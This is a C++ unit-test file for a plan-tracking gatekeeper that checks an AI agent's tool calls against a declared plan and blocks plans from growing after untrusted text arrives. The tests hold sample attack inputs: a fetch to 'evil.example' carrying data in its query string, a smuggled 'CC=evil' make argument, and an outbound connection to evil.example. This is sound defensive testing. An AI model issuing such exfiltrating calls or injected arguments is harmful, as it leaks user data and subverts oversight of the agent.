#include "gate/plan_book.h"

#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>

namespace hs::gate {
namespace {

using base::Code;
using wire::Json;

class Book : public testing::Test {
  protected:
    Book() {
        folder = std::filesystem::temp_directory_path() / "plan-book.XXXXXX";
        CHECK(::mkdtemp(folder.data()) != nullptr);
        who.session = "session";
        who.label = flow::Label::of_person("anna");
    }
    ~Book() override { std::filesystem::remove_all(folder); }

    std::string path() const { return folder + "/plans.json"; }
    HeldPlan plan(
        std::initializer_list<std::pair<std::string_view, std::string_view>> calls) const {
        HeldPlan held;
        held.id = "id";
        held.session = who.session;
        held.declared_ms = 1;
        for (const auto& [tool, arguments] : calls) {
            held.plan.add(flow::Plan::declared(tool, wire::parse_json(arguments).value()).value());
        }
        return held;
    }
    policy::FlowFacts marked(const PlanBook& book, const Action& action) const {
        policy::FlowFacts facts;
        facts.has_plan = true;  // as hardshelld might say
        facts.is_in_plan = true;
        book.mark(action, who.session, facts);
        return facts;
    }

    std::string folder;
    Circumstances who;
};

SendHttp fetch(std::string target, std::string method = "GET") {
    SendHttp send;
    send.method = std::move(method);
    send.scheme = "https";
    send.host = "a.example";
    send.port = 443;
    send.target = std::move(target);
    return send;
}

TEST_F(Book, WithoutAPlanWhatHardshelldSaysOfOneCountsForNothing) {
    const auto book = PlanBook::open(path());
    ASSERT_TRUE(book.ok());
    const auto facts = marked(*book, Action(fetch("/")));
    EXPECT_FALSE(facts.has_plan);
    EXPECT_FALSE(facts.is_in_plan);
}

TEST_F(Book, AnActionIsHeldAgainstThePlanByWhatItDoes) {
    auto book = PlanBook::open(path()).value();
    ASSERT_TRUE(
        book.declare(plan({{"http_fetch", R"({"url": "https://a.example/x", "method": "GET"})"},
                           {"files_edit", R"({"path": "/p/src/*"})"},
                           {"shell_run", R"({"argv": ["make", "test"]})"}}),
                     who)
            .ok());
    EXPECT_TRUE(marked(book, Action(fetch("/x"))).is_in_plan);
    EXPECT_TRUE(marked(book, Action(fetch("/x"))).destination_endorsed);
    EXPECT_FALSE(marked(book, Action(fetch("/x", "POST"))).is_in_plan);
    EXPECT_FALSE(marked(book, Action(fetch("/y"))).is_in_plan);
    EXPECT_FALSE(marked(book, Action(fetch("/y"))).destination_endorsed);
    WriteFile write;
    write.path = "/p/src/a.c";
    EXPECT_TRUE(marked(book, Action(write)).is_in_plan);
    write.operation = WriteFile::Operation::remove;
    EXPECT_FALSE(marked(book, Action(write)).is_in_plan);
    RunCommand run;
    run.argv = {"make", "test"};
    EXPECT_TRUE(marked(book, Action(run)).is_in_plan);
    run.argv.emplace_back("CC=evil");
    EXPECT_FALSE(marked(book, Action(run)).is_in_plan);
    // A program's own connection was not planned because the program was.
    EXPECT_FALSE(marked(book, Action(Connect{"evil.example", 443, true, "make"})).is_in_plan);
}

TEST_F(Book, AfterAStrangersTextNoneIsMade) {
    auto book = PlanBook::open(path()).value();
    Circumstances tainted = who;
    tainted.label = flow::Label::unknown();
    book.note(tainted);
    // Whatever is said of the conversation later.
    const auto refused = book.declare(plan({{"files_edit", "{}"}}), who);
    ASSERT_FALSE(refused.ok());
    EXPECT_EQ(refused.error().code, Code::conflict);
    EXPECT_EQ(book.find(who.session), nullptr);
}

TEST_F(Book, APlanShrinksUnderAStrangersTextAndNeverGrows) {
    auto book = PlanBook::open(path()).value();
    ASSERT_TRUE(book.declare(plan({{"files_edit", "{}"}, {"shell_run", "{}"}}), who).ok());
    who.label = flow::Label::unknown();
    EXPECT_FALSE(book.declare(plan({{"files_edit", R"({"path": "/p/a"})"}}), who).ok());
    EXPECT_TRUE(book.declare(plan({{"files_edit", "{}"}}), who).ok());
    EXPECT_FALSE(book.declare(plan({{"shell_run", "{}"}}), who).ok());
}

// Else a stranger's address is fixed in a call that was declared without one, and so vouched for.
TEST_F(Book, AfterAStrangersTextNothingIsFixedInAPlan) {
    auto book = PlanBook::open(path()).value();
    ASSERT_TRUE(book.declare(plan({{"http_fetch", "{}"}, {"files_write", "{}"}}), who).ok());
    ASSERT_TRUE(
        book.declare(plan({{"http_fetch", "{}"}, {"files_write", R"({"path": "/p/a"})"}}), who)
            .ok());
    who.label.integrity = flow::Integrity::untrusted;
    book.note(who);
    who.label = flow::Label::of_person("anna");  // as a hardshelld that was taken over might say
    const auto evil = plan({{"http_fetch", R"({"url": "https://evil.example/?d=1"})"}});
    EXPECT_EQ(book.declare(evil, who).error().code, Code::conflict);
    auto again = PlanBook::open(path()).value();
    EXPECT_EQ(again.declare(evil, who).error().code, Code::conflict);
    EXPECT_TRUE(again.declare(plan({{"http_fetch", "{}"}}), who).ok());
    EXPECT_FALSE(marked(again, Action(fetch("/x"))).destination_endorsed);
}

TEST_F(Book, ItSurvivesARestartAndEndsOnce) {
    {
        auto book = PlanBook::open(path()).value();
        ASSERT_TRUE(book.declare(plan({{"shell_run", R"({"argv": ["make", "*"]})"}}), who).ok());
    }
    auto book = PlanBook::open(path()).value();
    RunCommand run;
    run.argv = {"make"};
    EXPECT_TRUE(marked(book, Action(run)).is_in_plan);
    run.argv = {"sh"};
    EXPECT_TRUE(marked(book, Action(run)).has_plan);
    EXPECT_FALSE(marked(book, Action(run)).is_in_plan);
    EXPECT_TRUE(book.end(who.session).value());
    EXPECT_FALSE(book.end(who.session).value());
    EXPECT_EQ(PlanBook::open(path()).value().find(who.session), nullptr);
}

TEST_F(Book, ABookThatCannotBeReadStopsTheKeeper) {
    std::ofstream(path()) << R"({"format":1,"plans":[{"id":"x"}]})";
    EXPECT_FALSE(PlanBook::open(path()).ok());
}

}  // namespace
}  // namespace hs::gate
